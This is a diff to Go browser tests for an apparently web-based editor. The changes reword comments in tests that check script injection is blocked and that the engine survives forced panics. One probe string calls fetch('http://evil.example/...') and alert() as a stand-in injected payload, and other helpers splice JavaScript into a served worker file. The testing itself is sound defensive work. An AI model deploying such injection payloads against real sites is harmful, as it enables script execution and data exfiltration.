@@ -12,9 +12,9 @@ import (
 
 func TestNothingInAPostRuns(t *testing.T) {
 	p := open(t, visit{})
-	p.allow("Blocked script execution") // the frame says what it did not run
+	p.allow("Blocked script execution") // the frame reports the script that it did not run
 	p.allow("Content Security Policy")
-	p.allow("nowhere.png") // an image that fails, so that its onerror would run
+	p.allow("nowhere.png") // an image that fails to load, which would run its onerror
 	p.waitReady()
 	ran := func(how string) string {
 		return `(parent.ran ??= []).push('` + how + `'),(top.ran ??= []).push('` + how + `'),fetch('http://evil.example/` + how + `'),alert('` + how + `')`
@@ -45,7 +45,7 @@ func TestNothingInAPostRuns(t *testing.T) {
 	require.True(t, strings.HasPrefix(eval[string](p, `location.href`), p.url), "the page is still ours")
 }
 
-// alter changes one file of the site on its way to the browser.
+// alter changes one file of the site in transit.
 func alter(name string, change func([]byte) []byte) func(http.Handler) http.Handler {
 	return func(site http.Handler) http.Handler {
 		return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
@@ -67,11 +67,11 @@ func alter(name string, change func([]byte) []byte) func(http.Handler) http.Hand
 }
 
 func TestAPanicInTheEngineIsShownAndSurvived(t *testing.T) {
-	// A call without its arguments makes the engine itself panic, behind its own door.
+	// A call without arguments makes the engine panic internally.
 	provoke := []byte(`
 ;{ const door = globalThis; let real
 Object.defineProperty(door, "daylog", { get: () => real && { ...real, update: (...args) => real.update(...(String(args[0]).includes("PANIC") ? [] : args)) }, set: v => { real = v } }) }`)
-	// With little memory the worker has every key.
+	// With little memory the worker handles every keystroke.
 	little := `Object.defineProperty(Navigator.prototype, "deviceMemory", { get: () => 1 })`
 	p := open(t, visit{before: little, serve: alter("worker.js", func(js []byte) []byte { return bytes.Join([][]byte{provoke, js}, []byte("\n")) })})
 	p.waitReady()
@@ -88,8 +88,8 @@ Object.defineProperty(door, "daylog", { get: () => real && { ...real, update: (.
 	p.waitPreview("before and after")
 }
 
-// interrupted returns a script behind which a call of the engine throws for arguments that contain a word,
-// as a full stack makes it.
+// interrupted returns a script that makes a call of the engine throw for arguments that contain a
+// word, like a stack overflow.
 func interrupted(call, word string) string {
 	return `;{ let real
 const isWord = value => JSON.stringify(value ?? "").includes("` + word + `")
@@ -126,7 +126,7 @@ func TestAnInterruptedEngineInThePageIsRestarted(t *testing.T) {
 	p.waitPreview("before")
 	p.wait(`document.documentElement.hasAttribute("data-near")`)
 	p.typeText("§")
-	p.waitPreview("before§") // the worker's
+	p.waitPreview("before§") // rendered by the worker
 	require.Contains(t, p.lines(), "before§")
 	p.typeText(" and")
 	p.waitPreview("before§ and")
